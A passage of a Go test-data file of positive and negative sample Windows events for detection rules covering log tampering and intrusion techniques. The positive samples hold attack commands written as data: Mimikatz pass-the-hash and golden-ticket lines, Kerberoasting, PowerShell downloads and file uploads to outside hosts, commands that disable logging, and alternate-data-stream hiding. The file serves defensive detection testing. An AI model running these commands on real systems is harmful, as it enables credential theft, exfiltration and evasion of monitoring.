package detect

// Samples for the event-logging tamper rules: what the registry, the
// Service Control Manager and the Security log record when logging is
// switched off piece by piece, and the everyday events that look like it.

func init() {
	rulePositives = append(rulePositives, []ruleSample{
		{
			ID:      "8350f6ec-31e1-475b-b811-d5f87bcb119c", // Event Log Service Reported Stopped or Set to Disabled
			Channel: "System", EventID: 7040,
			Fields: map[string]string{
				"EventID": "7040",
				"param1":  "Windows Event Log",
				"param2":  "auto start",
				"param3":  "disabled",
				"param4":  "EventLog",
			},
		},
		{
			ID:      "3b0d8e52-7c1f-4e0a-9a47-2f5c1d6e8b31", // Event Log Channel Access Restricted in the Registry
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
			Fields: map[string]string{
				"EventType":    "SetValue",
				"Image":        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
				"TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WINEVT\\Channels\\Microsoft-Windows-Sysmon/Operational\\ChannelAccess",
				"Details":      "O:BAG:SYD:(D;;0xf0007;;;WD)",
			},
		},
		{
			ID:      "3b0d8e52-7c1f-4e0a-9a47-2f5c1d6e8b31", // Event Log Channel Access Restricted in the Registry
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
			Fields: map[string]string{
				"EventType":    "SetValue",
				"Image":        "C:\\Windows\\system32\\reg.exe",
				"TargetObject": "HKLM\\System\\CurrentControlSet\\Services\\EventLog\\Security\\CustomSD",
				"Details":      "O:BAG:SYD:(D;;0x2;;;WD)",
			},
		},
		{
			ID:      "6e2a4c1d-58b9-4f3e-b0a7-91d2c3e4f5a6", // Event Log Service Start Type Set to Disabled in the Registry
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
			Fields: map[string]string{
				"EventType":    "SetValue",
				"Image":        "C:\\Windows\\regedit.exe",
				"TargetObject": "HKLM\\System\\CurrentControlSet\\Services\\EventLog\\Start",
				"Details":      "DWORD (0x00000004)",
			},
		},
		{
			ID:      "8c4f2a9e-1d3b-4e6f-a5c7-0b9d8e7f6a52", // PowerShell Script Block, Module or Transcription Logging Turned Off in the Registry
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
			Fields: map[string]string{
				"EventType":    "SetValue",
				"Image":        "C:\\Windows\\system32\\reg.exe",
				"TargetObject": "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging\\EnableScriptBlockLogging",
				"Details":      "DWORD (0x00000000)",
			},
		},
		{
			ID:      "5d7e9f1a-2b3c-4d5e-8f6a-7b8c9d0e1f23", // Per-User Audit Policy Changed
			Channel: "Security", EventID: 4912,
			Fields: map[string]string{
				"SubjectUserName":    "admin",
				"TargetUserSid":      "S-1-5-21-1-2-3-1105",
				"CategoryId":         "%%8276",
				"SubcategoryGuid":    "{0cce922b-69ae-11d9-bed3-505054503030}",
				"AuditPolicyChanges": "%%8455, %%8459",
			},
		},
		{
			ID:      "1d22f737-9625-52cd-90ea-526e54faa04f", // Event Log Disabled or Redirected With wevtutil
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\wevtutil.exe",
				"CommandLine": "wevtutil sl Microsoft-Windows-Sysmon/Operational /ca:O:BAG:SYD:(D;;0xf0007;;;WD)",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "2f6b8d41-0c7e-4a59-9e13-5d8a7c6b4f20", // PowerView Domain Share Enumeration (Module Log)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
			Fields: map[string]string{
				"Payload": `CommandInvocation(Find-DomainShare): "Find-DomainShare"
ParameterBinding(Find-DomainShare): name="CheckShareAccess"; value="True"`,
				"ContextInfo": "Host Application = powershell.exe -noP -sta -w 1 -enc SQBmACgA",
			},
		},
		{
			ID:      "7a3e5c92-4b1d-4f68-8d2a-1e9f0b7c6d53", // PowerView Domain Password Policy Read (Module Log)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
			Fields: map[string]string{
				"Payload": `CommandInvocation(Get-DomainPolicy): "Get-DomainPolicy"
ParameterBinding(Get-DomainPolicy): name="Policy"; value="Domain"`,
				"ContextInfo": "Host Application = powershell.exe -noP -sta -w 1 -enc SQBmACgA",
			},
		},
		{
			ID:      "4d9c1b7e-6a2f-4e83-b5d0-8c3a2f1e9b64", // PowerView Search for Interesting Files on Shares (Module Log)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
			Fields: map[string]string{
				"Payload": `CommandInvocation(Find-InterestingDomainShareFile): "Find-InterestingDomainShareFile"
ParameterBinding(Find-InterestingDomainShareFile): name="Include"; value="*password*"`,
				"ContextInfo": "Host Application = powershell.exe -noP -sta -w 1 -enc SQBmACgA",
			},
		},
		{
			ID:      "0b5d7f9e-2c4a-4e16-8b3d-6f1a9c7e5d28", // Kerberoasting From PowerShell (Module Log)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
			Fields: map[string]string{
				"Payload": `CommandInvocation(Invoke-Kerberoast): "Invoke-Kerberoast"
ParameterBinding(Invoke-Kerberoast): name="OutputFormat"; value="Hashcat"`,
				"ContextInfo": "Host Application = powershell.exe -noP -sta -w 1 -enc SQBmACgA",
			},
		},
		{
			ID:      "9e1f3a5c-7b2d-4c60-a8e4-3d5b7f9a1c82", // PowerView Domain Password Policy Read in a Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `(Get-DomainPolicy -Policy Domain).SystemAccess`,
			},
		},
		{
			ID:      "6c8a0e2f-3d4b-4a71-9f5e-2b7d9c1e0a45", // PowerView Search for Interesting Files on Shares in a Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `Find-InterestingDomainShareFile -Include '*.kdbx','*pass*' | Export-Csv C:\Users\Public\f.csv`,
			},
		},
		{
			ID:      "1e7c9a3b-5d2f-4b84-a6e0-8f3d1c5b7a92", // Mimikatz Pass-the-Hash Run Through PowerShell
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `Invoke-Mimikatz -Command '"sekurlsa::pth /user:Administrator /domain:shire.com /ntlm:8846f7eaee8fb117ad06bdd830b7586c /run:powershell.exe"'`,
			},
		},
		{
			ID:      "2f8d0b4c-6e3a-4c95-b7f1-9a4e2d6c8b03", // Mimikatz Pass-the-Hash Run Through PowerShell (Module Log)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
			Fields: map[string]string{
				"Payload": `CommandInvocation(Invoke-Mimikatz): "Invoke-Mimikatz"
ParameterBinding(Invoke-Mimikatz): name="Command"; value="sekurlsa::pth /user:admin /domain:shire /aes256:b7268361386090314acce8d9367e55f55865e7ef8e670fbe4262d6c94098a9e9"`,
			},
		},
		{
			ID:      "3a9e1c5d-7f4b-4da6-8c02-0b5f3e7d9c14", // Kerberos Golden Ticket Forged Through PowerShell
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `Invoke-Mimikatz -Command '"kerberos::golden /user:Administrator /domain:shire.com /sid:S-1-5-21-1-2-3 /krbtgt:8846f7eaee8fb117ad06bdd830b7586c /ptt"'`,
			},
		},
		{
			ID:      "4b0f2d6e-8a5c-4eb7-9d13-1c6a4f8e0d25", // Kerberos Golden Ticket Forged Through PowerShell (Module Log)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
			Fields: map[string]string{
				"Payload": `ParameterBinding(Invoke-Mimikatz): name="Command"; value="kerberos::golden /user:Administrator /domain:shire.com /sid:S-1-5-21-1-2-3 /krbtgt:8846f7eaee8fb117ad06bdd830b7586c /ticket:g.kirbi"`,
			},
		},
		{
			ID:      "5c1a3e7f-9b6d-4fc8-8e24-2d7b5a9f1e36", // Kerberos Ticket Injected Through PowerShell (Pass the Ticket)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `Invoke-Mimikatz -Command '"kerberos::ptt C:\Users\Public\admin.kirbi"'`,
			},
		},
		{
			ID:      "6d2b4f80-0c7e-4ad9-9f35-3e8c6b0a2f47", // Kerberos Ticket Injected Through PowerShell (Pass the Ticket, Module Log)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
			Fields: map[string]string{
				"Payload": `ParameterBinding(Invoke-Mimikatz): name="Command"; value="kerberos::ptt C:\Users\Public\admin.kirbi"`,
			},
		},
		{
			ID:      "7e3c5a91-1d8f-4be0-a046-4f9d7c1b3a58", // Browser Password Store Copied by Another Program
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 11,
			Fields: map[string]string{
				"Image":          `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
				"TargetFilename": `C:\Users\pgustavo\AppData\Local\Temp\Login Data`,
			},
		},
		{
			ID:      "8f4d6b02-2e9a-4cf1-b157-5a0e8d2c4b69", // File Timestamps Rewritten in a PowerShell Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `$f = Get-Item C:\Users\Public\a.exe; $ref = Get-Item C:\Windows\System32\kernel32.dll; $f.CreationTime = $ref.CreationTime; $f.LastWriteTime = $ref.LastWriteTime`,
			},
		},
		{
			ID:      "8f4d6b02-2e9a-4cf1-b157-5a0e8d2c4b69", // File Timestamps Rewritten in a PowerShell Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `[IO.File]::SetLastWriteTime("C:\Users\Public\a.exe", [datetime]"2015-01-01")`,
			},
		},
		{
			ID:      "9a5e7c13-3f0b-4d02-8268-6b1f9e3d5c7a", // Program or Script Written to or Run From an Alternate Data Stream
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Windows\System32\cmd.exe`,
				"CommandLine": `cmd /c type C:\Users\Public\a.exe > C:\Users\Public\report.txt:svc.exe`,
				"ParentImage": `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
			},
		},
		{
			ID:      "9a5e7c13-3f0b-4d02-8268-6b1f9e3d5c7a", // Program or Script Written to or Run From an Alternate Data Stream
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Windows\System32\wbem\WMIC.exe`,
				"CommandLine": `wmic process call create "C:\ProgramData\log.txt:svc.exe"`,
				"ParentImage": `C:\Windows\System32\cmd.exe`,
			},
		},
		{
			ID:      "0b6f8d24-4a1c-4e13-9379-7c2a0f4e6d8b", // Domain Controller Replication SPN Added to a Computer Account (DCShadow)
			Channel: "Security", EventID: 4742,
			Fields: map[string]string{
				"SubjectUserName": `pgustavo`,
				"TargetUserName":  `WORKSTATION6$`,
				"ServicePrincipalNames": `GC/WORKSTATION6.shire.com/shire.com
E3514235-4B06-11D1-AB04-00C04FC2DCD2/8515dd9e-0b58-4d4e-9d3f-3b05f1d7a9c1/shire.com`,
			},
		},
		{
			ID:      "1c7a9e35-5b2d-4f24-8a8a-8d3b1a5f7e9c", // Group Policy Changed From PowerShell to Run Code or Grant Rights
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `New-GPOImmediateTask -TaskName Debugging -GPODisplayName 'Default Domain Policy' -CommandArguments '-noP -enc SQB' -Force`,
			},
		},
		{
			ID:      "2d8b0f46-6c3e-4035-9b9b-9e4c2b6a8f0d", // Group Policy Changed From PowerShell to Run Code or Grant Rights (Module Log)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
			Fields: map[string]string{
				"Payload": `CommandInvocation(Set-GPRegistryValue): "Set-GPRegistryValue"
ParameterBinding(Set-GPRegistryValue): name="Key"; value="HKLM\Software\Microsoft\Windows\CurrentVersion\Run"`,
			},
		},
		{
			ID:      "3e9c1a57-7d4f-4146-8cac-0f5d3c7b9a1e", // Volume Shadow Copy Created From a Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Windows\System32\vssadmin.exe`,
				"CommandLine": `vssadmin create shadow /for=C:`,
				"ParentImage": `C:\Windows\System32\cmd.exe`,
			},
		},
		{
			ID:      "3e9c1a57-7d4f-4146-8cac-0f5d3c7b9a1e", // Volume Shadow Copy Created From a Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Windows\System32\wbem\WMIC.exe`,
				"CommandLine": `wmic shadowcopy call create Volume=C:\`,
				"ParentImage": `C:\Windows\System32\cmd.exe`,
			},
		},
		{
			ID:      "f9b93670-979b-5ee5-9a15-e522bd502bfd", // Windows Utility Running Under Another File Name
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":            `C:\Users\Public\update.exe`,
				"OriginalFileName": `netsh.exe`,
				"CommandLine":      `update.exe advfirewall set allprofiles state off`,
				"ParentImage":      `C:\Windows\System32\cmd.exe`,
			},
		},
		{
			ID:      "daa4bb6e-4bf2-40bf-9b27-d573427b031a", // WMIC Creates a Process or Targets a Remote Node
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Windows\System32\wbem\WMIC.exe`,
				"CommandLine": `wmic /node:127.0.0.1 process call create "rundll32.exe C:\Users\Public\a.dll,StartW"`,
				"ParentImage": `C:\Windows\System32\cmd.exe`,
			},
		},
		{
			ID:      "7ce3e5f9-1b80-447a-8a0f-4c9b6f1d3e52", // Rundll32 Loads a DLL From a Network Share
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Windows\System32\rundll32.exe`,
				"CommandLine": `rundll32.exe \\172.16.205.1\pwn\test.dll,0`,
				"ParentImage": `C:\Windows\System32\cmd.exe`,
			},
		},
		{
			ID:      "8df4f60a-2c91-458b-9b10-5d0c7e2f4a63", // PowerShell Command Line Downloads a File to Disk
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
				"CommandLine": `powershell -c "(New-Object Net.WebClient).DownloadFile('http://10.0.0.5/a.exe','C:\Users\Public\a.exe')"`,
				"ParentImage": `C:\Windows\System32\cmd.exe`,
			},
		},
		{
			ID:      "8df4f60a-2c91-458b-9b10-5d0c7e2f4a63", // PowerShell Command Line Downloads a File to Disk
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
				"CommandLine": `powershell.exe iwr http://10.0.0.5/tools/rubeus.exe -OutFile $env:TEMP\r.exe`,
				"ParentImage": `C:\Windows\System32\wscript.exe`,
			},
		},
		{
			ID:      "9e05a71b-3da2-469c-8c21-6e1d8f3a5b74", // Domain DPAPI Backup Key Read From the Domain Controller
			Channel: "Security", EventID: 4662,
			Fields: map[string]string{
				"EventID":         `4662`,
				"SubjectUserName": `pgustavo`,
				"ObjectServer":    `LSA`,
				"ObjectType":      `SecretObject`,
				"ObjectName":      `Policy\Secrets\G$BCKUPKEY_PREFERRED`,
				"AccessMask":      `0x2`,
			},
		},
		{
			ID:      "0af16b2c-4eb3-47ad-9d32-7f2e9a4b6c85", // User Account Created
			Channel: "Security", EventID: 4720,
			Fields: map[string]string{
				"EventID":          `4720`,
				"SubjectUserName":  `pgustavo`,
				"TargetUserName":   `support_tmp`,
				"TargetDomainName": `WS06`,
			},
		},
		{
			ID:      "1b027c3d-5fc3-48be-8e43-8f3a0b5c7d96", // RDP Restricted Admin Mode Enabled in the Registry
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
			Fields: map[string]string{
				"EventType":    `SetValue`,
				"Image":        `C:\Windows\system32\reg.exe`,
				"TargetObject": `HKLM\System\CurrentControlSet\Control\Lsa\DisableRestrictedAdmin`,
				"Details":      `DWORD (0x00000000)`,
			},
		},
		{
			ID:      "2c138d4e-60d4-49cf-9f54-9a4b1c6d8ea7", // Windows Program Loads an Unsigned DLL From a User-Writable Path (Injected DLL)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 7,
			Fields: map[string]string{
				"Image":       `C:\Windows\System32\notepad.exe`,
				"ImageLoaded": `C:\ProgramData\inject.dll`,
				"Signed":      `false`,
			},
		},
		{
			ID:      "3d249e5f-72e6-4ad0-a06b-1b5c3d7e9f18", // File Uploaded by a PowerShell One-Liner
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
				"CommandLine": `powershell -c "Invoke-WebRequest -Uri http://203.0.113.7/upload -Method POST -InFile C:\Users\Public\docs.zip"`,
				"ParentImage": `C:\Windows\System32\cmd.exe`,
			},
		},
		{
			ID:      "3d249e5f-72e6-4ad0-a06b-1b5c3d7e9f18", // File Uploaded by a PowerShell One-Liner
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
				"CommandLine": `powershell -c "(New-Object Net.WebClient).UploadFile('http://203.0.113.7/u.php','C:\Users\Public\l.dmp')"`,
				"ParentImage": `C:\Windows\System32\cmd.exe`,
			},
		},
		{
			ID:      "4e35af60-83f7-4be1-b17c-2c6d4e8f0a29", // XSL Script Run With msxsl.exe
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Users\Public\msxsl.exe`,
				"CommandLine": `msxsl.exe C:\Users\Public\a.xml C:\Users\Public\a.xsl`,
				"ParentImage": `C:\Windows\System32\cmd.exe`,
			},
		},
		{
			ID:      "5f46b071-94a8-4cf2-8c8d-3d7e5f9a1b3a", // Silent Process Exit Monitoring Set Up for LSASS
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
			Fields: map[string]string{
				"EventType":    `SetValue`,
				"Image":        `C:\Windows\system32\reg.exe`,
				"TargetObject": `HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\SilentProcessExit\lsass.exe\ReportingMode`,
				"Details":      `DWORD (0x00000002)`,
			},
		},
		{
			ID:      "6057c182-a5b9-4d03-9e9e-4e8f6a0b2c4b", // Per-User App Paths Entry Redirects an Auto-Elevating Program's Helper
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
			Fields: map[string]string{
				"EventType":    `SetValue`,
				"Image":        `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
				"TargetObject": `HKU\S-1-5-21-1-2-3-1104\Software\Microsoft\Windows\CurrentVersion\App Paths\control.exe\(Default)`,
				"Details":      `C:\Windows\System32\cmd.exe`,
			},
		},
		{
			ID:      "7168d293-b6ca-4e14-af0a-5f9a7b1c3d5c", // RDP Connection Opened by a Program That Is Not an RDP Client
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 3,
			Fields: map[string]string{
				"Image":           `C:\Users\Public\SharpRDP.exe`,
				"Initiated":       `true`,
				"DestinationIp":   `172.18.39.6`,
				"DestinationPort": `3389`,
				"Protocol":        `tcp`,
			},
		},
		{
			ID:      "81a9e3b5-c7d0-4f21-9a6b-6c0b8d2e4f6d", // Rundll32 Spawns a Command Shell or PowerShell
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":             `C:\Windows\System32\cmd.exe`,
				"CommandLine":       `C:\Windows\system32\cmd.exe /C whoami /all`,
				"ParentImage":       `C:\Windows\System32\rundll32.exe`,
				"ParentCommandLine": `C:\Windows\system32\rundll32.exe`,
			},
		},
		{
			ID:      "92b0f4c6-d8e1-4032-8b7c-7d1c9e3f5a7e", // Rundll32 Started Without a DLL to Run (Sacrificial Process)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Windows\System32\rundll32.exe`,
				"CommandLine": `C:\Windows\system32\rundll32.exe`,
				"ParentImage": `C:\Users\Public\beacon.exe`,
			},
		},
		{
			ID:      "92b0f4c6-d8e1-4032-8b7c-7d1c9e3f5a7e", // Rundll32 Started Without a DLL to Run (Sacrificial Process)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Windows\SysWOW64\rundll32.exe`,
				"CommandLine": `"C:\Windows\SysWOW64\rundll32.exe"`,
				"ParentImage": `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
			},
		},
		{
			ID:      "a3c105d7-e9f2-4143-9c8d-8e2d0a4f6b8f", // Computer Account Renamed to a Name Without the Trailing $ (sAMAccountName Spoofing)
			Channel: "Security", EventID: 4781,
			Fields: map[string]string{
				"EventID":           `4781`,
				"SubjectUserName":   `pgustavo`,
				"OldTargetUserName": `EVILPC$`,
				"NewTargetUserName": `MORDORDC`,
				"TargetDomainName":  `SHIRE`,
			},
		},
		{
			ID:      "b4d216e8-fa03-4254-ad9e-9f3e1b5c7d90", // Office Application Writes an Executable or Script File
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 11,
			Fields: map[string]string{
				"Image":          `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`,
				"TargetFilename": `C:\Users\bob\AppData\Local\Temp\update.exe`,
			},
		},
		{
			ID:      "b4d216e8-fa03-4254-ad9e-9f3e1b5c7d90", // Office Application Writes an Executable or Script File
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 11,
			Fields: map[string]string{
				"Image":          `C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`,
				"TargetFilename": `C:\Users\Public\run.vbs`,
			},
		},
		{
			ID:      "c5e327f9-0b14-4365-be0f-0a4f2c6d8ea1", // Antivirus or EDR Engine Process Opened With Rights to Suspend or Dump It
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 10,
			Fields: map[string]string{
				"SourceImage":   `C:\Windows\System32\WerFaultSecure.exe`,
				"TargetImage":   `C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.25100.9008-0\MsMpEng.exe`,
				"GrantedAccess": `0x1fffff`,
			},
		},
		{
			ID:      "c5e327f9-0b14-4365-be0f-0a4f2c6d8ea1", // Antivirus or EDR Engine Process Opened With Rights to Suspend or Dump It
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 10,
			Fields: map[string]string{
				"SourceImage":   `C:\Users\Public\killer.exe`,
				"TargetImage":   `C:\Program Files\CrowdStrike\CSFalconService.exe`,
				"GrantedAccess": `0x0001`,
			},
		},
	}...)

	ruleNegatives = append(ruleNegatives, []ruleSample{
		{
			// Changed back from disabled to automatic: param2 is the old type.
			ID:      "8350f6ec-31e1-475b-b811-d5f87bcb119c", // Event Log Service Reported Stopped or Set to Disabled
			Channel: "System", EventID: 7040,
			Fields: map[string]string{
				"EventID": "7040",
				"param1":  "Windows Event Log",
				"param2":  "disabled",
				"param3":  "auto start",
				"param4":  "EventLog",
			},
		},
		{
			// Installing a provider manifest (wevtutil im) writes the
			// default, grant-only descriptor.
			ID:      "3b0d8e52-7c1f-4e0a-9a47-2f5c1d6e8b31", // Event Log Channel Access Restricted in the Registry
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
			Fields: map[string]string{
				"EventType":    "SetValue",
				"Image":        "C:\\Windows\\System32\\wevtutil.exe",
				"TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WINEVT\\Channels\\Contoso-Agent/Operational\\ChannelAccess",
				"Details":      "O:BAG:SYD:(A;;0xf0007;;;SY)(A;;0x7;;;BA)(A;;0x1;;;BO)(A;;0x1;;;SO)(A;;0x1;;;S-1-5-32-573)",
			},
		},
		{
			ID:      "6e2a4c1d-58b9-4f3e-b0a7-91d2c3e4f5a6", // Event Log Service Start Type Set to Disabled in the Registry
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
			Fields: map[string]string{
				"EventType":    "SetValue",
				"Image":        "C:\\Windows\\system32\\services.exe",
				"TargetObject": "HKLM\\System\\CurrentControlSet\\Services\\EventLog\\Start",
				"Details":      "DWORD (0x00000002)",
			},
		},
		{
			ID:      "8c4f2a9e-1d3b-4e6f-a5c7-0b9d8e7f6a52", // PowerShell Script Block, Module or Transcription Logging Turned Off in the Registry
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
			Fields: map[string]string{
				"EventType":    "SetValue",
				"Image":        "C:\\Windows\\system32\\svchost.exe",
				"TargetObject": "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging\\EnableScriptBlockLogging",
				"Details":      "DWORD (0x00000001)",
			},
		},
		{
			ID:      "5d7e9f1a-2b3c-4d5e-8f6a-7b8c9d0e1f23", // Per-User Audit Policy Changed
			Channel: "Security", EventID: 4912,
			Fields: map[string]string{
				"SubjectUserName":    "admin",
				"TargetUserSid":      "S-1-5-21-1-2-3-1105",
				"CategoryId":         "%%8276",
				"SubcategoryGuid":    "{0cce922b-69ae-11d9-bed3-505054503030}",
				"AuditPolicyChanges": "%%8453, %%8457",
			},
		},
		{
			ID:      "2f6b8d41-0c7e-4a59-9e13-5d8a7c6b4f20", // PowerView Domain Share Enumeration (Module Log)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
			Fields: map[string]string{
				"Payload":     `CommandInvocation(Get-SmbShare): "Get-SmbShare"`,
				"ContextInfo": "Host Application = powershell.exe -noP -sta -w 1 -enc SQBmACgA",
			},
		},
		{
			ID:      "7a3e5c92-4b1d-4f68-8d2a-1e9f0b7c6d53", // PowerView Domain Password Policy Read (Module Log)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
			Fields: map[string]string{
				"Payload":     `CommandInvocation(Get-ExecutionPolicy): "Get-ExecutionPolicy"`,
				"ContextInfo": "Host Application = powershell.exe -noP -sta -w 1 -enc SQBmACgA",
			},
		},
		{
			ID:      "4d9c1b7e-6a2f-4e83-b5d0-8c3a2f1e9b64", // PowerView Search for Interesting Files on Shares (Module Log)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
			Fields: map[string]string{
				"Payload": `CommandInvocation(Get-ChildItem): "Get-ChildItem"
ParameterBinding(Get-ChildItem): name="Path"; value="\\fs01\public"`,
				"ContextInfo": "Host Application = powershell.exe -noP -sta -w 1 -enc SQBmACgA",
			},
		},
		{
			ID:      "0b5d7f9e-2c4a-4e16-8b3d-6f1a9c7e5d28", // Kerberoasting From PowerShell (Module Log)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
			Fields: map[string]string{
				"Payload":     `CommandInvocation(Get-ADServiceAccount): "Get-ADServiceAccount"`,
				"ContextInfo": "Host Application = powershell.exe -noP -sta -w 1 -enc SQBmACgA",
			},
		},
		{
			ID:      "9e1f3a5c-7b2d-4c60-a8e4-3d5b7f9a1c82", // PowerView Domain Password Policy Read in a Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `function Get-DomainPolicy {
    [CmdletBinding()]
    Param([String]$Policy = "Domain")
    Get-DomainPolicyData @Arguments
}`,
			},
		},
		{
			ID:      "6c8a0e2f-3d4b-4a71-9f5e-2b7d9c1e0a45", // PowerView Search for Interesting Files on Shares in a Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `Get-ChildItem -Path C:\Users\bob\Documents -Filter *.docx -Recurse`,
			},
		},
		{
			ID:      "1e7c9a3b-5d2f-4b84-a6e0-8f3d1c5b7a92", // Mimikatz Pass-the-Hash Run Through PowerShell
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `Get-Help about_Remote_Requirements`,
			},
		},
		{
			ID:      "2f8d0b4c-6e3a-4c95-b7f1-9a4e2d6c8b03", // Mimikatz Pass-the-Hash Run Through PowerShell (Module Log)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
			Fields: map[string]string{
				"Payload": `CommandInvocation(Start-Process): "Start-Process"
ParameterBinding(Start-Process): name="Credential"; value="System.Management.Automation.PSCredential"`,
			},
		},
		{
			ID:      "3a9e1c5d-7f4b-4da6-8c02-0b5f3e7d9c14", // Kerberos Golden Ticket Forged Through PowerShell
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `klist purge; Get-ADUser krbtgt -Properties PasswordLastSet`,
			},
		},
		{
			ID:      "4b0f2d6e-8a5c-4eb7-9d13-1c6a4f8e0d25", // Kerberos Golden Ticket Forged Through PowerShell (Module Log)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
			Fields: map[string]string{
				"Payload": `CommandInvocation(Get-ADUser): "Get-ADUser"
ParameterBinding(Get-ADUser): name="Identity"; value="krbtgt"`,
			},
		},
		{
			ID:      "5c1a3e7f-9b6d-4fc8-8e24-2d7b5a9f1e36", // Kerberos Ticket Injected Through PowerShell (Pass the Ticket)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `klist tickets`,
			},
		},
		{
